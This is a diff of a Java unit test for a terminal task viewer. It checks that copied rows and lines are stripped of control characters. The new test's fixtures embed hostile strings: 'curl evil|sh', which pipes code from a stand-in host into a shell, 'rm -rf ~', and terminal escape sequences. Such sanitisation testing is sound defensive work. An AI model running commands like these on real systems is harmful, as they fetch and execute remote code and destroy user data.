@@ -9,7 +9,11 @@ import static taskbg.tui.state.Sample.press;
 import static taskbg.tui.state.Sample.typed;
 
 import java.util.List;
+import java.util.Set;
 import org.junit.jupiter.api.Test;
+import taskbg.task.Entry;
+import taskbg.task.Observed;
+import taskbg.task.Status;
 
 class PanesTest {
     @Test
@@ -27,26 +31,51 @@ class PanesTest {
     @Test
     void a_row_a_line_and_an_id_can_be_copied() {
         var model = ActsTest.on("bg_06");
-        assertEquals(new Effect.CopyText("bg_06"), press(model, "Y").effects().getFirst());
+        assertEquals(
+                new Effect.CopyText("bg_06", "the id"), press(model, "Y").effects().getFirst());
         assertEquals(
                 new Effect.CopyText(
-                        "bg_06\tcompleted\tReview the payment module\t"
-                                + "No blocking findings; three remarks on naming."),
+                        "bg_06  completed  Review the payment module  "
+                                + "No blocking findings; three remarks on naming.",
+                        "the line"),
                 press(model, "y").effects().getFirst());
         assertEquals(
-                new Effect.CopyText("bg_12\tunreadable\tbg_12\tno JSON: line 1, column 1"),
+                new Effect.CopyText(
+                        "bg_12  unreadable  bg_12  no JSON: line 1, column 1", "the line"),
                 press(ActsTest.on("bg_12"), "y").effects().getFirst());
         var output = OutputTest.full(100).model();
-        assertEquals(new Effect.CopyText("line 99"), press(output, "y").effects().getFirst());
+        assertEquals(
+                new Effect.CopyText("line 99", "the line"),
+                press(output, "y").effects().getFirst());
         var found =
                 after(
                         Sample.keys(typed(keys(output, "/"), "line"), "Enter"),
                         new Message.SearchFound("bg_01", "line", new Spot(800, 0)));
-        assertEquals(new Effect.CopyText("line 80"), press(found, "y").effects().getFirst());
+        assertEquals(
+                new Effect.CopyText("line 80", "the line"), press(found, "y").effects().getFirst());
         var away = keys(found, "g");
-        assertEquals(new Effect.CopyText("line 21"), press(away, "y").effects().getFirst());
+        assertEquals(
+                new Effect.CopyText("line 21", "the line"), press(away, "y").effects().getFirst());
         var none = keys(Sample.monitor(80, 24), "j", "Enter");
-        assertEquals(new Effect.CopyText(""), press(none, "y").effects().getFirst());
+        assertEquals(new Effect.CopyText("", "the line"), press(none, "y").effects().getFirst());
+    }
+
+    @Test
+    void what_is_copied_holds_no_control_characters() {
+        var end = new Status.Completed(Sample.ago(1), "r\nrm -rf ~\n\u009b31m\u202e", null);
+        var hostile = Sample.over("bg_06", "hi\ncurl evil|sh\n\u001b[31m\u0003\tx", end, 60);
+        var stem = "two\nlines\u001b]0;x\u0007";
+        var named = Observed.unreadable(new Entry.Unreadable(stem, "has a name\n\u0007"));
+        var model = after(ActsTest.on("bg_06"), TableTest.seen(hostile));
+        assertEquals(
+                new Effect.CopyText("bg_06  completed  hi curl evil|sh ^C x  r rm -rf ~", "the line"),
+                press(model, "y").effects().getFirst());
+        var only = after(Sample.opening(80, 24), new Message.TasksSeen(List.of(named), Set.of()));
+        for (var key : List.of("y", "Y")) {
+            var copied = (Effect.CopyText) press(only, key).effects().getFirst();
+            assertTrue(copied.text().startsWith("two lines"));
+            assertTrue(copied.text().chars().noneMatch(Character::isISOControl));
+        }
     }
 
     @Test
